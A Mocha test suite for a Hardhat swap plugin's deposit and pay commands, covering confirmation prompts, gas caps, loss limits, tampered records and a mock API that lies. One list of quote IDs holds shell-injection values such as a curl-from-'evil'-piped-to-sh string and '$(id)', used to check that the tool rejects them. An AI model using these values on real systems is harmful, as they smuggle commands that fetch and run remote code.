import { readdir, writeFile } from "node:fs/promises"
import path from "node:path"

import { expect } from "chai"
import { after, before, beforeEach, describe, it } from "mocha"
import { renderUnicodeCompact } from "uqr"
import { type Address, type Hex, isAddress } from "viem"

import { swapData } from "#extras/swap/test/fixtures/swapData.js"
import { eventually } from "#test/fixtures/clocks/eventually.js"
import { createLaterClock } from "#test/fixtures/clocks/laterClock.js"
import type { CommandOptions, EndedCommand } from "#test/fixtures/commands/endedCommand.js"
import { temporaryProject } from "#test/fixtures/commands/hardhatCommand.js"
import { type RunningCommand, startCommand, type TaskCommandOptions } from "#test/fixtures/commands/taskCommand.js"
import { deepIt, variants } from "#test/fixtures/depth.js"
import { expectGoldenCommand } from "#test/fixtures/golden/expectGoldenCommand.js"
import { dearer } from "#test/fixtures/servers/nodes/dearNode.js"
import { createRpcDoor } from "#test/fixtures/servers/nodes/rpcDoor.js"
import { createRewritingApi, type RewritingApi } from "#test/fixtures/servers/rewritingApi.js"
import { readStored, writeAsUser } from "#test/fixtures/wire/recordFiles.js"
import { createSwapWorld, type SwapWorld } from "#test/fixtures/worlds/swap/swapWorld.js"

const refundAddress = "0x00000000000000000000000000000000000000F7"

describe("hardhat swap execute --user-ops deposit, and swap pay", function () {
  let world: SwapWorld
  let project: Awaited<ReturnType<typeof temporaryProject>>
  before(async () => {
    ;[world, project] = await Promise.all([createSwapWorld(), temporaryProject()])
  })
  after(async () => {
    await world[Symbol.asyncDispose]()
    await project[Symbol.asyncDispose]()
  })

  const options = (): CommandOptions => ({
    port: Number(new URL(world.devnet.url).port),
    env: {
      PLUGS_TEST_CHAINS: "alpha,beta",
      PLUGS_TEST_ALPHA_URL: world.alpha.rpcUrl,
      PLUGS_TEST_ROOT: project.path,
    },
  })
  const start = (args: readonly string[], more: TaskCommandOptions = {}): RunningCommand =>
    startCommand(["swap", ...args], { ...options(), ...more })
  const run = (args: readonly string[], more?: TaskCommandOptions): Promise<EndedCommand> => start(args, more).ended
  const terms = (amount: string, token = "USDC"): string[] => [
    ...[amount, token, "--from", "alpha", "--to", "beta", "--for", "USDC", "--provider", "pool,curve"],
    ...["--user-ops", "deposit", "--refund-address", refundAddress],
  ]
  const sentSoFar = (): Promise<number> => world.alpha.publicClient.getTransactionCount({ address: world.user })

  type Opened = { readonly quoteId: Hex; readonly address: Address; readonly amount: bigint; readonly event: object }
  /** Opens a deposit, and leaves it as Ctrl-C does. */
  async function open(amount: string, token?: string, more?: TaskCommandOptions): Promise<Opened> {
    await using opening = start(["execute", ...terms(amount, token), "--json"], more)
    const event = await opening.event(({ event }) => event === "deposit")
    opening.interrupt()
    expect((await opening.ended).code).to.equal(130)
    const { depositAddress, amount: asked } = event["deposit"] as { depositAddress: Address; amount: string }
    return { quoteId: event["quoteId"] as Hex, address: depositAddress, amount: BigInt(asked), event }
  }
  const pay = ({ quoteId, address }: Opened, ...more: string[]): Promise<EndedCommand> =>
    run(["pay", quoteId, "--from", "alpha", "--allow-target", address, "--yes", ...more])

  it("shows what to pay as text and as a QR code, and follows until it is swapped", async () => {
    await using opening = start(["execute", ...terms("12.5"), "--timeout", "60s"])
    const [, record] = await recordOf("12500000")
    expect((await run(["execute", ...terms("12.5"), "--json"])).error?.code).to.equal("SWAP_BUSY")
    await world.transfer(world.alpha, "usdc", record.route.deposit.depositAddress, 12_500_000n)
    const { code, stdout, stderr } = await opening.ended
    expect(code, stderr).to.equal(0)
    expect(stdout).to.match(/pay exactly +12\.5 USDC on alpha/)
    expect(stdout).to.match(new RegExp(`to +${record.route.deposit.depositAddress}`))
    const [uri = ""] = /^ethereum:.*$/m.exec(stdout) ?? []
    const { depositAddress } = record.route.deposit
    expect(uri).to.equal(`ethereum:${world.tokenOf("usdc")}@41001/transfer?address=${depositAddress}&uint256=12500000`)
    expect(stdout).to.include(renderUnicodeCompact(uri, { border: 2 }))
    expect(stdout).to.match(/you get +at least 12\.\d+ USDC on beta/)
    expect(stdout).to.match(/Swap +COMPLETED/)
  })

  it("sends nothing, needs no consent, and shows the same deposit until it has ended", async () => {
    const before = await sentSoFar()
    const first = await open("3")
    const again = await open("3")
    expect(again.quoteId).to.equal(first.quoteId)
    expect(again.event).to.include({ isResumed: true })
    expect(first.event).to.include({ isResumed: false })
    expect(isAddress(first.address)).to.equal(true)
    expect(await sentSoFar()).to.equal(before)
  })

  it("pays a deposit once, however often it is paid", async () => {
    const opened = await open("4")
    const before = await world.balanceOf(world.alpha, "usdc")
    const first = await pay(opened)
    expect(first.code, first.stderr).to.equal(0)
    const replaced = [[opened.address, "<deposit address>"]] as const
    expectGoldenCommand("swap/pay", first, { withoutSteps: true, replaced: [...swapData, ...replaced] })
    expect(before - (await world.balanceOf(world.alpha, "usdc"))).to.equal(4_000_000n)
    const sent = await sentSoFar()
    const second = await pay(opened, "--json")
    expect(second.code, second.stderr).to.equal(0)
    expectGoldenCommand("swap/pay", second, { withoutSteps: true, replaced: [...swapData, ...replaced] })
    expect(await sentSoFar()).to.equal(sent)
  })

  deepIt("pays the native currency", async () => {
    const opened = await open("0.5", "ETH")
    const { code, stdout, stderr } = await pay(opened)
    expect(code, stderr).to.equal(0)
    expect(stdout).to.match(/Swap +COMPLETED/)
  })

  it("asks at a terminal with the address in the question, and pays nothing unless it is confirmed", async () => {
    const opened = await open("5")
    const before = await sentSoFar()
    const questions: string[] = []
    const answered = (answer: string): Promise<EndedCommand> =>
      run(["pay", opened.quoteId, "--from", "alpha"], {
        answer: (question) => {
          questions.push(question)
          return answer
        },
      })
    const declined = await answered("n")
    expect(declined.code).to.equal(130)
    expect(await sentSoFar()).to.equal(before)
    expect((await answered("y")).code).to.equal(0)
    expect(questions).to.have.length(2)
    for (const question of questions) expect(question).to.include(opened.address).and.to.include("5 USDC")
  })

  deepIt("pays no more for gas than what was confirmed", async () => {
    await using door = await createRpcDoor(world.alpha.rpcUrl)
    const behindDoor = { env: { ...options().env, PLUGS_TEST_ALPHA_URL: door.url } }
    const opened = await open("5.5", "USDC", behindDoor)
    const before = await sentSoFar()
    const confirm = (factor: bigint): Promise<EndedCommand> =>
      run(["pay", opened.quoteId, "--from", "alpha"], {
        ...behindDoor,
        answer() {
          door.rewrite(dearer(factor, ["estimate"]))
          return "y"
        },
      })
    const { code, error } = await confirm(3n)
    expect([code, error?.code, await sentSoFar()]).to.deep.equal([1, "GAS_TOO_EXPENSIVE", before])
    door.release()
    expect((await confirm(1n)).code).to.equal(0)
  })

  deepIt("with --yes, pays only to an address that was named", async () => {
    const opened = await open("6")
    const before = await sentSoFar()
    const unnamed = await run(["pay", opened.quoteId, "--from", "alpha", "--yes"])
    expect(unnamed.error?.facts).to.include({ reason: "DEPOSIT_NOT_ALLOWED" })
    const other = await pay({ ...opened, address: refundAddress })
    expect(other.error?.facts).to.include({ reason: "DEPOSIT_NOT_ALLOWED" })
    expect([unnamed.code, other.code, await sentSoFar()]).to.deep.equal([1, 1, before])
  })

  deepIt("does not pay what somebody else has paid", async () => {
    const opened = await open("7")
    await world.transfer(world.alpha, "usdc", opened.address, opened.amount)
    await world.reaches(opened.quoteId, "COMPLETED")
    const before = await sentSoFar()
    const refused = await pay(opened)
    expect(refused.code).to.equal(1)
    expect(refused.error?.code).to.equal("DEPOSIT_PAID")
    expect(await sentSoFar()).to.equal(before)
  })

  describe("with an API that lies", () => {
    let api: RewritingApi
    let answer: (path: string, text: string) => string
    before(async () => {
      api = await createRewritingApi(world.devnet.swap.baseUrl, (path, text) => answer(path, text))
    })
    after(async () => {
      await api[Symbol.asyncDispose]()
    })
    beforeEach(() => {
      answer = (_path, text) => text
    })

    const startLied = (
      args: readonly string[],
      typing: Pick<TaskCommandOptions, "answer" | "clock"> = {},
    ): RunningCommand => {
      const { env = {}, ...more } = options()
      return startCommand(["swap", ...args], {
        ...more,
        ...typing,
        env: { ...env, PLUGS_TEST_SWAP: JSON.stringify({ baseUrl: api.url }) },
      })
    }
    const lied = (args: readonly string[]): Promise<EndedCommand> => startLied(args).ended
    /** Says of every route that nobody has paid it. */
    const denyPayment = (path: string, text: string): string => {
      if (!path.includes("/status")) return text
      const { result, ...envelope } = JSON.parse(text) as { result: { origin: object } }
      const side = { status: "PENDING", txHash: null }
      const origin = { ...result.origin, ...side }
      return JSON.stringify({ ...envelope, result: { ...result, status: "PENDING", statusCode: "PENDING", origin } })
    }
    const payAfterLies = async ({ quoteId, address }: Opened): Promise<EndedCommand> =>
      await lied(["pay", quoteId, "--from", "alpha", "--allow-target", address, "--yes"])

    /** Says of every route that its output is worth this part of the input. */
    const worth = (part: number) => (path: string, text: string) => {
      if (!path.includes("/quote")) return text
      const { result, ...envelope } = JSON.parse(text) as {
        result: { input: { valueInUsd: number }; routes: { output: object }[] }
      }
      const valueInUsd = result.input.valueInUsd * part
      const routes = result.routes.map((route) => ({ ...route, output: { ...route.output, valueInUsd } }))
      return JSON.stringify({ ...envelope, result: { ...result, routes } })
    }

    deepIt("opens and pays no deposit that loses more than is accepted", async () => {
      answer = worth(0.7)
      const open = ["execute", ...terms("8.5")]
      expect((await lied(open)).error?.facts).to.include({ reason: "LOSES_TOO_MUCH" })
      await using opening = startLied([...open, "--accept-loss", "31", "--json"])
      const event = await opening.event(({ event }) => event === "deposit")
      opening.interrupt()
      expect((await opening.ended).stderr).to.contain(" 30 % ")
      expect(event["valueLoss"]).to.include({ percent: 30 })
      const { depositAddress } = event["deposit"] as { depositAddress: Address }
      const pay = ["pay", String(event["quoteId"]), "--from", "alpha", "--allow-target", depositAddress, "--yes"]
      const before = await sentSoFar()
      expect((await lied(pay)).error?.facts).to.include({ reason: "LOSES_TOO_MUCH" })
      expect(await sentSoFar()).to.equal(before)
      const paid = await lied([...pay, "--accept-loss", "31"])
      expect(paid.code, paid.stderr).to.equal(0)
      expect(paid.stderr).to.contain(" 30 % ")
    })

    deepIt("opens another deposit once one has expired, by its time and by the API, and no sooner", async () => {
      const opened = await open("3.5")
      const hour = 3_600
      const shown = async (status: string, clock = createLaterClock(hour * 1_000)) => {
        answer = (path, text) => {
          if (path.includes("/status")) return denyPayment(path, text).replaceAll('"PENDING"', `"${status}"`)
          return text.replace(/"expiresAt":(\d+)/g, (_, seconds) => `"expiresAt":${Number(seconds) + 2 * hour}`)
        }
        await using opening = startLied(["execute", ...terms("3.5"), "--json"], { clock })
        const event = await opening.event(({ event }) => event === "deposit")
        opening.interrupt()
        await opening.ended
        return { isSame: event["quoteId"] === opened.quoteId, isResumed: event["isResumed"] }
      }
      expect(await shown("EXPIRED", createLaterClock(0))).to.deep.equal({ isSame: true, isResumed: true })
      expect(await shown("PENDING")).to.deep.equal({ isSame: true, isResumed: true })
      expect(await shown("EXPIRED")).to.deep.equal({ isSame: false, isResumed: false })
    })

    it("asks about a high loss before it shows what to pay", async () => {
      answer = worth(0.93)
      const questions: string[] = []
      const typing = (question: string): string => {
        questions.push(question)
        return "n"
      }
      const { code, stdout } = await startLied(["execute", ...terms("8.6")], { answer: typing }).ended
      expect({ code, stdout }).to.deep.equal({ code: 130, stdout: "" })
      expect(questions).to.deep.equal(["Accept a loss of 7 %? "])
    })

    deepIt(
      "asks nobody about a high loss with --yes, or where nobody can answer, because nothing is sent",
      async () => {
        answer = worth(0.93)
        const questions: string[] = []
        const typing = (question: string): string => {
          questions.push(question)
          return "n"
        }
        for (const [amount, more, typed] of [
          ["8.7", ["--yes"], { answer: typing }],
          ["8.8", ["--yes"], {}],
          ["8.9", [], {}],
        ] as const) {
          await using opening = startLied(["execute", ...terms(amount), ...more, "--json"], typed)
          await opening.event(({ event }) => event === "deposit")
          opening.interrupt()
          expect((await opening.ended).stderr, amount).to.contain(" 7 % ")
        }
        expect(questions).to.deep.equal([])
      },
    )

    it("does not pay what a wallet has paid, because the chain shows the transfer", async () => {
      const opened = await open("9")
      await world.transfer(world.alpha, "usdc", opened.address, opened.amount)
      await world.reaches(opened.quoteId, "COMPLETED")
      answer = denyPayment
      const before = await sentSoFar()
      const { code, error } = await payAfterLies(opened)
      expect(code).to.equal(1)
      expect(error?.code).to.equal("DEPOSIT_PAID")
      expect(await sentSoFar()).to.equal(before)
    })

    deepIt("does not pay what was seen to be paid, whatever the API says later", async () => {
      const opened = await open("0.25", "ETH")
      const { walletClient } = world.alpha
      await walletClient.sendTransaction({ to: opened.address, value: opened.amount })
      await world.reaches(opened.quoteId, "COMPLETED")
      expect((await run(["execute", ...terms("0.25", "ETH")])).stdout).to.match(/Swap +COMPLETED/)
      answer = denyPayment
      const before = await sentSoFar()
      expect((await payAfterLies(opened)).error?.code).to.equal("DEPOSIT_PAID")
      expect(await sentSoFar()).to.equal(before)
    })

    const odd = ["abc\nSwap  COMPLETED  done", "0x1;curl${IFS}evil|sh", "$(id)", "--yes", "0xabc --yes"]
    for (const quoteId of variants(odd, 1)) {
      it(`shows nothing of a quote that is called ${JSON.stringify(quoteId)}`, async () => {
        answer = (path, text) =>
          path.includes("/quote") ? text.replace(/"quoteId":"[^"]*"/g, `"quoteId":${JSON.stringify(quoteId)}`) : text
        const { code, stdout } = await lied(["execute", ...terms("13")])
        expect({ code, stdout }).to.deep.equal({ code: 1, stdout: "" })
      })
    }
  })

  deepIt("never shows as payable what is paid", async () => {
    const opened = await open("14")
    await using paying = start([
      "pay",
      opened.quoteId,
      "--from",
      "alpha",
      "--allow-target",
      opened.address,
      "--yes",
      "--json",
    ])
    await paying.event(({ status }) => status === "MINED")
    paying.interrupt()
    const { stderr } = await paying.ended
    expect(stderr).to.match(/transaction: 0x[0-9a-f]{64}/)
    expect(stderr).to.contain(`npx hardhat swap pay ${opened.quoteId} --from alpha`)
    const again = await run(["execute", ...terms("14"), "--json"])
    expect(again.code, again.stderr).to.equal(0)
    expect(again.events[0]).to.include({ event: "paid", quoteId: opened.quoteId })
    expect(again.events.map(({ event }) => event)).not.to.include("deposit")
    expect((await open("14")).quoteId, "the next one is another deposit").not.to.equal(opened.quoteId)
  })

  it("pays nothing for a record that was changed on disk to ask for more, or that is broken", async () => {
    const opened = await open("8")
    const [file, record] = await recordOf("8000000")
    const before = await sentSoFar()
    const { route } = record
    const changed = { ...record, route: { ...route, deposit: { ...route.deposit, amount: "9000000" } } }
    for (const text of [JSON.stringify(changed), "{"]) {
      await writeFile(file, text)
      expect((await pay(opened)).error?.code).to.equal("JOURNAL_FOREIGN")
    }
    // Also where its own code is right.
    await writeAsUser(file, { purpose: "deposit", record: changed })
    expect((await pay(opened)).error?.facts).to.include({ reason: "OTHER_INPUT" })
    expect(await sentSoFar()).to.equal(before)
  })

  it("names what is missing or contradictory", async () => {
    const swap = ["1", "USDC", "--from", "alpha", "--to", "beta", "--for", "USDC"]
    const failures = await Promise.all([
      run(["execute", ...swap, "--user-ops", "deposit"]),
      run(["execute", ...swap, "--refund-address", refundAddress, "--yes"]),
      run(["quote", ...swap, "--user-ops", "cash"]),
      run(["pay", `0x${"1".repeat(64)}`, "--from", "alpha", "--yes"]),
      run(["pay", `0x${"1".repeat(64)}`, "--from", "alpha"]),
    ])
    expect(failures.map(({ code }) => code)).to.deep.equal([1, 1, 1, 1, 1])
    const named = ["--refund-address", "--refund-address", "--user-ops", "no deposit of this quote", "--yes"]
    named.forEach((text, index) => expect(failures[index]?.stderr).to.include(text))
    expectGoldenCommand("swap/pay-refused", failures[3])
    expectGoldenCommand("swap/pay-refused", await run(["pay", `0x${"1".repeat(64)}`, "--from", "alpha", "--json"]))
  })

  it("compares the routes that take deposits", async () => {
    const { code, stdout, stderr } = await run(["quote", ...terms("2"), "--json"])
    expect(code, stderr).to.equal(0)
    const { routes } = JSON.parse(stdout) as { routes: { userOp: string; deposit: object | null }[] }
    expect(routes).not.to.have.length(0)
    for (const { userOp, deposit } of routes) {
      expect(userOp).to.equal("deposit")
      expect(deposit).to.be.an("object")
    }
  })

  type Written = { route: { deposit: { depositAddress: Address; amount: string } } }
  /** Finds the record of a deposit by its amount, once it is there. */
  async function recordOf(amount: string): Promise<[file: string, record: Written]> {
    return await eventually(async () => {
      const swaps = path.join(project.path, ".plugs", "swaps")
      const files = (await readdir(swaps, { recursive: true }).catch(() => [])).filter((name) =>
        /deposits.[0-9a-f]{40}$/.test(name),
      )
      for (const name of files) {
        const file = path.join(swaps, name)
        const record = await readStored<Written>(file)
        if (record.route.deposit.amount === amount) return [file, record] as [string, Written]
      }
      return undefined
    })
  }
})
